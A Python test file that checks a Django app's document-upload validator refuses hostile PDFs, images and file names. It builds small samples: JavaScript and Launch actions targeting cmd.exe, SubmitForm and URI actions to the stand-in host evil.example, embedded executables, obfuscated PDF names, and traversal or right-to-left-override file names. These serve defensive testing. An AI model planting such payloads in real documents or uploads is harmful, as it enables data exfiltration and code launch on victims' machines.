"""Uploads: active PDFs, unreadable files, image payloads and hostile names are refused."""

import io

import pytest
from django.core.exceptions import ValidationError
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from certify.records import documents
from tests.support import samples


@pytest.fixture(autouse=True)
def private_dir(tmp_path, settings):
    settings.PRIVATE_STORAGE_DIR = tmp_path
    return tmp_path


def refused(content: bytes) -> str:
    with pytest.raises(ValidationError) as error:
        documents.check_upload(content)
    return error.value.code


def js_action() -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )


def test_a_plain_pdf_is_accepted():
    assert documents.check_upload(samples.TINY_PDF).extension == "pdf"


def test_a_pdf_with_javascript_on_open_is_refused():
    assert refused(samples.pdf({NameObject("/OpenAction"): js_action()})) == "pdf_active_content"


def test_a_pdf_with_a_launch_action_is_refused():
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    assert refused(samples.pdf({NameObject("/OpenAction"): launch})) == "pdf_active_content"


def test_a_pdf_with_embedded_files_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    writer.add_attachment("invoice.exe", b"MZ\x90\x00")
    out = io.BytesIO()
    writer.write(out)
    assert refused(out.getvalue()) == "pdf_active_content"


def test_a_pdf_with_an_obfuscated_name_is_refused():
    plain = samples.pdf({NameObject("/OpenAction"): js_action()})
    hidden = plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in hidden
    assert refused(hidden) == "pdf_active_content"


def test_javascript_inside_a_compressed_object_stream_is_found():
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("x"), js_action()])}
            )
        }
    )
    writer.compress_identical_objects()
    out = io.BytesIO()
    writer.write(out)
    assert refused(out.getvalue()) == "pdf_active_content"


def test_a_pdf_that_does_not_parse_is_refused():
    assert refused(b"%PDF-1.7\n" + b"\x00garbage" * 50) == "pdf_unreadable"


def test_a_pdf_with_a_real_password_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    assert refused(out.getvalue()) == "pdf_encrypted"


def test_a_broken_image_is_refused():
    assert refused(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64) == "image_unreadable"
    assert refused(b"\xff\xd8\xff\xe0" + b"\x00" * 64) == "image_unreadable"


def test_an_image_over_the_pixel_limit_is_refused(settings):
    settings.DOCUMENT_MAX_PIXELS = 100
    assert refused(samples.image("PNG", size=(20, 20))) == "image_unreadable"


def test_an_executable_renamed_or_an_empty_file_is_refused():
    assert refused(b"MZ\x90\x00" + b"\x00" * 64) == "bad_type"
    assert refused(b"") == "empty"


def test_images_are_re_encoded_without_their_metadata(world):
    exif = Image.Exif()
    exif[0x010E] = "home address in the description"  # ImageDescription
    original = samples.image("JPEG", size=(8, 8), exif=exif.tobytes())
    payload = original + b"PK\x03\x04 appended archive"
    document = documents.store(
        actor=world.users["advocate"],
        certification_request=world.advocate_request,
        kind="other",
        content=payload,
        original_name="photo.jpg",
    )
    stored = documents.read_content(document)
    assert b"home address" not in stored and b"PK\x03\x04" not in stored
    assert Image.open(io.BytesIO(stored)).size == (8, 8)


def test_the_number_of_documents_per_request_is_limited(world, settings):
    settings.DOCUMENT_MAX_PER_REQUEST = 2
    for _ in range(2):
        documents.store(
            actor=world.users["advocate"],
            certification_request=world.advocate_request,
            kind="other",
            content=samples.TINY_PDF,
        )
    with pytest.raises(ValidationError) as error:
        documents.store(
            actor=world.users["advocate"],
            certification_request=world.advocate_request,
            kind="other",
            content=samples.TINY_PDF,
        )
    assert error.value.code == "too_many"


def test_file_names_are_never_trusted(world, private_dir):
    name = "..\\..\\report\u202egpj.exe\x00\x07.pdf"
    document = documents.store(
        actor=world.users["advocate"],
        certification_request=world.advocate_request,
        kind="other",
        content=samples.TINY_PDF,
        original_name=name,
    )
    assert document.original_name == "reportgpj.exe.pdf"
    assert [p.name.endswith(".pdf.enc") for p in (private_dir / "documents").iterdir()] == [True]
    assert "report" not in document.storage_name


# --- actions that leave the file, forms that script, and where they hide -----------------------


def action(kind: str, **entries) -> DictionaryObject:
    body = {NameObject("/S"): NameObject(f"/{kind}")}
    body.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    return DictionaryObject(body)


def pdf_with_link(link_action: DictionaryObject) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=72, height=72)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/A"): link_action,
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "label,link_action",
    [
        ("uri", action("URI", URI=TextStringObject("https://evil.example/track"))),
        ("gotor to a unc path", action("GoToR", F=TextStringObject("\\\\evil\\share\\x.pdf"))),
        ("submit form", action("SubmitForm", F=TextStringObject("https://evil.example/collect"))),
        ("import data", action("ImportData", F=TextStringObject("data.fdf"))),
        ("launch", action("Launch", F=TextStringObject("cmd.exe"))),
        ("gotoe", action("GoToE")),
    ],
)
def test_an_action_that_leaves_the_file_is_refused(label, link_action):
    assert refused(pdf_with_link(link_action)) == "pdf_active_content", label


def test_submit_form_on_open_is_refused():
    submit = action("SubmitForm", F=TextStringObject("https://evil.example/collect"))
    assert refused(samples.pdf({NameObject("/OpenAction"): submit})) == "pdf_active_content"


def test_additional_actions_are_refused():
    writer = PdfWriter()
    page = writer.add_blank_page(width=72, height=72)
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))}
    )
    out = io.BytesIO()
    writer.write(out)
    assert refused(out.getvalue()) == "pdf_active_content"


def test_an_xfa_form_is_refused():
    form = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): ArrayObject(
                [TextStringObject("template"), TextStringObject("<template/>")]
            ),
        }
    )
    assert refused(samples.pdf({NameObject("/AcroForm"): form})) == "pdf_active_content"


def test_an_attachment_annotation_is_refused():
    writer = PdfWriter()
    page = writer.add_blank_page(width=72, height=72)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/FS"): DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Filespec"),
                    NameObject("/F"): TextStringObject("x.exe"),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    out = io.BytesIO()
    writer.write(out)
    assert refused(out.getvalue()) == "pdf_active_content"


URI_LINK = (
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] "
    b"/A << /S /URI /URI (https://evil.example/track) >> >>"
)


def test_an_action_inside_a_compressed_object_stream_is_refused():
    data = samples.pdf_with_object_stream(URI_LINK)
    assert b"/ObjStm" in data and b"/URI" not in data  # only the parser can see it
    assert refused(data) == "pdf_active_content"


def test_an_action_in_a_compressed_object_nothing_points_to_is_refused():
    data = samples.pdf_with_object_stream(URI_LINK, referenced=False)
    assert b"/URI" not in data
    assert refused(data) == "pdf_active_content"


def test_a_plain_object_stream_is_accepted():
    harmless = b"<< /Type /Annot /Subtype /Square /Rect [0 0 1 1] >>"
    assert documents.check_upload(samples.pdf_with_object_stream(harmless)).extension == "pdf"


def test_an_action_in_an_object_nothing_points_to_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    writer._add_object(action("Launch", F=TextStringObject("cmd.exe")))  # orphaned
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    assert refused(data) == "pdf_active_content"


def test_an_open_action_that_only_shows_the_first_page_is_accepted():
    writer = PdfWriter()
    page = writer.add_blank_page(width=72, height=72)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [page.indirect_reference, NameObject("/Fit")]
    )
    out = io.BytesIO()
    writer.write(out)
    assert documents.check_upload(out.getvalue()).extension == "pdf"


# --- streamed uploads never touch the disk in plaintext --------------------------------------


def big_pdf(size: int) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    writer.add_metadata({"/Padding": "x" * size})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_large_upload_is_never_written_to_a_plaintext_temporary_file(
    client, db, monkeypatch, settings
):
    from django.core.files import uploadedfile
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.support.wizard import post_step

    settings.DOCUMENT_MAX_BYTES = 6 * 1024 * 1024
    written = []
    original = uploadedfile.TemporaryUploadedFile.__init__

    def spy(self, *args, **kwargs):
        written.append(args)
        original(self, *args, **kwargs)

    monkeypatch.setattr(uploadedfile.TemporaryUploadedFile, "__init__", spy)
    content = big_pdf(3 * 1024 * 1024)
    upload = SimpleUploadedFile("report.pdf", content, content_type="application/pdf")
    response = post_step(client, "documents", {"police_report": upload})
    assert response.status_code in (200, 302)
    assert written == []
    temp = private_dir_files(settings)
    assert all(content[:4096] not in p.read_bytes() for p in temp)


def private_dir_files(settings):
    from pathlib import Path

    return [p for p in Path(settings.PRIVATE_STORAGE_DIR).rglob("*") if p.is_file()]


def test_an_upload_over_the_limit_gets_a_clear_message(client, db, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.support.wizard import post_step

    settings.DOCUMENT_MAX_BYTES = 1024 * 1024
    upload = SimpleUploadedFile("big.pdf", big_pdf(2 * 1024 * 1024))
    response = post_step(client, "documents", {"police_report": upload})
    assert response.status_code == 200
    assert "larger than 1 MB" in response.content.decode()


def test_the_sweep_removes_upload_files_left_by_a_crash(settings, private_dir):
    import os
    import time
    from pathlib import Path

    from workflows import drafts

    settings.FILE_UPLOAD_TEMP_DIR = str(private_dir / "uploading")
    directory = Path(settings.FILE_UPLOAD_TEMP_DIR)
    directory.mkdir(parents=True, exist_ok=True)
    old = directory / "tmpab12cd.upload.pdf"
    old.write_bytes(b"%PDF- left behind by a killed worker")
    two_hours_ago = time.time() - 7200
    os.utime(old, (two_hours_ago, two_hours_ago))
    fresh = directory / "tmpzz99.upload.pdf"
    fresh.write_bytes(b"%PDF- still being uploaded")
    drafts.remove_stale_uploads(max_age_hours=24)
    assert not old.exists()
    assert fresh.exists()
